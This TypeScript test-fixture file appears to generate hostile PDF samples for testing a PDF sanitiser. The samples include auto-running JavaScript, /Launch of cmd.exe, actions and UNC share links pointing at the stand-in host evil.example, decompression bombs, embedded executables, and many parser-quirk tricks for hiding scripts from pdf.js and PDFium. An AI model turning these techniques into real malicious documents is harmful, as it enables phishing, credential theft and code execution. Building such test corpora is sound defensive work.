import { deflateSync } from 'node:zlib';
import {
  PAGE,
  changed,
  inserted,
  packedObject,
  stream,
  withCatalog,
  withLink,
  withNote,
  withoutContents,
  withoutRows,
  write,
  writeCompressed,
} from './pdf-writer.ts';

/** A valid PDF of one page, 700 bytes. Different marks make different files. */
export function makePdf(mark = ''): Buffer {
  return write([...PAGE, `<< /Mark (${mark.replace(/[^\w ]/g, '')}) >>`]);
}

/** A valid PDF with the given number of empty pages. */
export function makeLongPdf(pages: number): Buffer {
  const numbers = Array.from({ length: pages }, (_, at) => at + 3);
  return write([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${numbers.map((number) => `${number} 0 R`).join(' ')}] /Count ${pages} >>`,
    ...numbers.map(() => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>'),
  ]);
}

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const ENCRYPTION = [
  '/Filter /Standard /V 1 /R 2 /P -44',
  `/O <${'28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A'}>`,
  `/U <${'0F3B6A1C9D5E27A8F1C2B3D4E5F60718293A4B5C6D7E8F90A1B2C3D4E5F60718'}>`,
].join(' ');

/** Actions that a viewer runs on its own, or on a click that looks like a link. */
const ACTIONS = {
  aScript: SCRIPT,
  aProgram: '<< /S /Launch /F (cmd.exe) >>',
  anotherFile: '<< /S /GoToR /F (//evil.example/share/a.pdf) /D [0 /Fit] >>',
  anotherFilesFile: '<< /S /GoToE /F (//evil.example/a.pdf) /D [0 /Fit] >>',
  aFormForAStranger: '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>',
  dataForAForm: '<< /S /ImportData /F (a.fdf) >>',
  aFilm: '<< /S /Rendition /OP 0 >>',
};

export const pdfs = {
  compressed: () => writeCompressed(withoutContents(PAGE)),
  encrypted: () => write([...PAGE, `<< ${ENCRYPTION} >>`], '/Encrypt 6 0 R /ID [<00> <00>]'),
  truncated: () => makePdf().subarray(0, 600),
  garbage: () => Buffer.from('%PDF-1.7\nnothing of a document\n%%EOF\n'),
  withOpenAction: () => write(withCatalog('/OpenAction 6 0 R', [SCRIPT])),
  withNamedScript: () => write(withCatalog('/Names << /JavaScript << /Names [(a) 6 0 R] >> >>', [SCRIPT])),
  withEscapedScript: () => write(withCatalog('/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>')),
  withHiddenScript: () => writeCompressed(withoutContents(withCatalog('/OpenAction 6 0 R', [SCRIPT]))),
  /** One viewer reads this stream as an object stream although it has no such type. */
  withUntypedHiddenScript: () =>
    writeCompressed(withoutContents(withCatalog('/OpenAction 6 0 R', [SCRIPT])), ''),
  withPageScript: () =>
    write(PAGE.map((object, at) => (at === 2 ? object.replace(/>>$/, `/AA << /O ${SCRIPT} >> >>`) : object))),
  /** 0.1 MB that decompress to 80 MB. */
  withBomb: () => writeCompressed(withoutContents([...PAGE, ' '.repeat(80_000_000)])),
  /** 30 kB that cost gigabytes in a reader that stores all values. */
  withManyPackedValues: () =>
    write([...PAGE, ...Array.from({ length: 30 }, () => packedObject(`[${'<<>> '.repeat(200_000)}]`))]),
  /** 1 kB. */
  withManyRowsInATable: () => {
    const packed = deflateSync(Buffer.alloc(250_000 * 4)).toString('latin1');
    const entries = '/Type /XRef /W [1 2 1] /Index [9 250000] /Size 250009 /Filter /FlateDecode';
    return write([...PAGE, stream(packed, entries)]);
  },
  withManyBranches: () =>
    write(
      PAGE.map((object, at) =>
        at === 1 ? object.replace('3 0 R', '5 0 R '.repeat(10_000) + '3 0 R') : object,
      ),
    ),
  withLaunch: () => write(withCatalog('/OpenAction << /S /Launch /F (cmd.exe) >>')),
  withForm: () => write(withCatalog('/AcroForm << /Fields [] /XFA (form) >>')),
  withNotedFile: () =>
    write(
      PAGE.map((object, at) =>
        at === 2
          ? object.replace(/>>$/, '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>] >>')
          : object,
      ),
    ),
  ...Object.fromEntries(
    Object.entries(ACTIONS).flatMap(([name, action]) => [
      [`withLinkTo ${name}`, () => write(withLink(action))],
      [`opening ${name}`, () => write(withCatalog('/OpenAction 6 0 R', [action]))],
      [`hiding ${name}`, () => writeCompressed(withoutContents(withLink('6 0 R', [action])), '')],
    ]),
  ),
  openingAWebsite: () => write(withCatalog('/OpenAction << /S /URI /URI (https://evil.example) >>')),
  openingAWebsiteAfterAPage: () =>
    write(
      withCatalog(
        '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >>',
      ),
    ),
  openingAWebsiteByItsPage: () =>
    write(
      PAGE.map((object, at) =>
        at === 2
          ? object.replace(/>>$/, '/AA << /O << /S /URI /URI (https://evil.example) >> >> >>')
          : object,
      ),
    ),
  openingNothingThatIsThere: () => write(withCatalog('/OpenAction 60 0 R')),
  withScriptInAnAddress: () => write(withLink('<< /S /URI /URI (java\\163cript:app.alert\\(1\\)) >>')),
  withScriptInAWideAddress: () =>
    write(
      withLink(
        `<< /S /URI /URI <feff${Buffer.from('javascript:a()', 'utf16le').swap16().toString('hex')}> >>`,
      ),
    ),
  withShareInAnAddress: () => write(withLink('<< /S /URI /URI (file://evil.example/share) >>')),
  withShareInAnEscapedAddress: () => write(withLink('<< /S /URI /URI (file:///%5c%5cevil.example/share) >>')),
  withShareWithoutScheme: () => write(withLink('<< /S /URI /URI (\\\\\\\\evil.example\\\\share) >>')),
  withAddressElsewhere: () => write(withLink('<< /S /URI /URI 6 0 R >>', ['(javascript:app.alert\\(1\\))'])),
  withFilm: () => write(withNote('<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>')),
  withScreen: () => write(withNote('<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>')),
  /** One viewer reads `-` as 0. Another gives up on the object and looks for the next. */
  withLoneMinus: () => write(withLink('6 0 R', ['<< /X - /S /JavaScript /JS (app.alert\\(1\\)) >>'])),
  withUnknownWord: () => write(withLink('6 0 R', ['<< /X foo /S /JavaScript /JS (app.alert\\(1\\)) >>'])),
  withTwoKinds: () => write(withLink('<< /S /URI /S /JavaScript /JS (app.alert\\(1\\)) >>')),
  withKindElsewhere: () => write(withLink('<< /S 6 0 R /F 5 0 R >>', ['/Launch'])),
  withScriptOfAnOldVersion: () => {
    const pdf = write(withCatalog('/Extra 6 0 R', [SCRIPT]));
    return changed(pdf, '6 0 obj\n<< /Title (New) >>', (text) => text.indexOf('6 0 obj'));
  },
  withObjectInAString: () => {
    const pdf = write([...PAGE, `(6 0 obj ${SCRIPT} endobj)`]);
    return changed(pdf, '7 0 obj\n<< >>', (text) => text.indexOf('6 0 obj <<'));
  },
  withObjectInAStream: () =>
    changed(write([...PAGE, stream(`7 0 obj ${SCRIPT} endobj`)]), '8 0 obj\n<< >>', (text) =>
      text.indexOf('7 0 obj'),
    ),
  withObjectInAStreamThatLooksLikeNone: () =>
    changed(write([...PAGE, stream(`7 % a comment\n0 obj ${SCRIPT} endobj`)]), '8 0 obj\n<< >>', (text) =>
      text.indexOf('7 % a'),
    ),
  withObjectInAComment: () =>
    Buffer.concat([makePdf(), Buffer.from(`%7 0 obj ${SCRIPT} endobj\nstartxref\n0\n%%EOF\n`)]),
  withObjectAfterACommentInItsHeader: () =>
    withoutRows([...PAGE, stream(`7 % a comment\n0 obj ${SCRIPT} endobj`)]),
  withObjectAfterSpacesOfOneViewer: () => withoutRows([...PAGE, stream(`7\x800\xffobj ${SCRIPT} endobj`)]),
  /** pdf.js reads it as the trailer when it repairs a file. */
  withTrailerInAStream: () =>
    withoutRows([
      ...PAGE,
      stream(`\ntrailer << /ID [<00> <00>] /Root << /Pages 2 0 R /OpenAction ${SCRIPT} >> >>\n`),
    ]),
  /** Viewers read the rest of a line after `%%EOF` as a comment. */
  withScriptBetweenComments: () =>
    write(withLink('<< /X (y) %%EOF /Y (\n/S /JavaScript /JS (app.alert\\(1\\)) %%EOF )\n>>')),
  withNamesThatEndForOneViewer: () => write(withLink('<< /S\x80/JavaScript /JS\xff(app.alert\\(1\\)) >>')),
  withEscapesOfOneViewer: () => write(withLink('<< /S /Java#4Jcript /#4A#4J (app.alert\\(1\\)) >>')),
  withZerosInNames: () => write(withLink('<< /S /JavaScript#00 /JS#00 (app.alert\\(1\\)) >>')),
  /** PDFium uses the integer part of the number. */
  withAddressAtAFraction: () =>
    write(withLink('<< /S /URI /URI 6.5 0 R >>', ['(javascript:app.alert\\(1\\))'])),
  /** The number overflows in PDFium, which starts again at 0. */
  withAddressBeyondAllNumbers: () =>
    inserted(
      write(withLink('<< /S /URI /URI 6 0 R >>')),
      '4294967302 0 obj\n(javascript:app.alert\\(1\\))\nendobj\n',
    ),
  withObjectsBehindNoPlace: () => write([...PAGE, stream(`9 4 ${SCRIPT}`, '/Type /ObjStm /N 1')]),
  withObjectsThatOneViewerUnfilters: () =>
    write([...PAGE, stream('6 0 << >>', '/Type /ObjStm /N 1 /First 4 /DP << /Predictor 12 /Columns 4 >>')]),
  withObjectsThatNoFilterChanges: () =>
    write([
      ...PAGE,
      stream('\x006 0 << >>', '/Type /ObjStm /N 1 /First 4 /DecodeParms << /Predictor 12 /Columns 9 >>'),
    ]),
  /** The name ends in an incomplete row. */
  withKindInHalfARow: () => {
    const packed = deflateSync(Buffer.from('\x006 0 /Launc\0h', 'latin1')).toString('latin1');
    const entries =
      '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 10 >>';
    return write([...withLink('<< /S 6 0 R /F 5 0 R >>'), stream(packed, entries)]);
  },
  /** Half a gigabyte for ten bytes. */
  withARowLongerThanItsData: () => {
    const entries =
      '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 500000000 >>';
    return write([
      ...PAGE,
      stream(deflateSync(Buffer.from('\x006 0 << >>', 'latin1')).toString('latin1'), entries),
    ]);
  },
  withObjectsOfAKindElsewhere: () => write([...PAGE, stream(`9 4 ${SCRIPT}`, '/Type 7 0 R /N 1'), '/ObjStm']),
  withDataOfAnotherFile: () => write([...PAGE, stream('', '/F (//evil.example/share)')]),
  withPageOfAnotherFile: () => write([...PAGE, stream('', '/Subtype /Form /Ref << /F 5 0 R >>')]),
  withObjectsOfAnUnknownFilter: () =>
    write([...PAGE, stream('6 0 << /S /JavaScript >>', '/N 1 /First 4 /Filter /ASCIIHexDecode')]),
  withObjectsBetweenObjects: () => write([...PAGE, stream(`6 0 << >> ${SCRIPT} `, '/N 1 /First 4')]),
  withDeepLists: () => write([...PAGE, `${'['.repeat(101)}${']'.repeat(101)}`]),
  /** An object that no page or name refers to. */
  withLooseFile: () => write([...PAGE, '<< /Type /Filespec /F (a.exe) /EF << >> >>']),
  withLooseFileStream: () => write([...PAGE, stream('MZ', '/Type /EmbeddedFile')]),
  withLooseScript: () => write([...PAGE, '<< /S /Rendition /JS (app.alert\\(1\\)) >>']),
  withLooseAction: () => write([...PAGE, '[<< /S /JavaScript >>]']),
  withoutPages: () =>
    write(PAGE.map((object, at) => (at === 1 ? '<< /Type /Pages /Kids [] /Count 0 >>' : object))),
  withEmbeddedFile: () =>
    write(
      withCatalog('/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>', [
        '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
        stream('MZ', '/Type /EmbeddedFile'),
      ]),
    ),
};
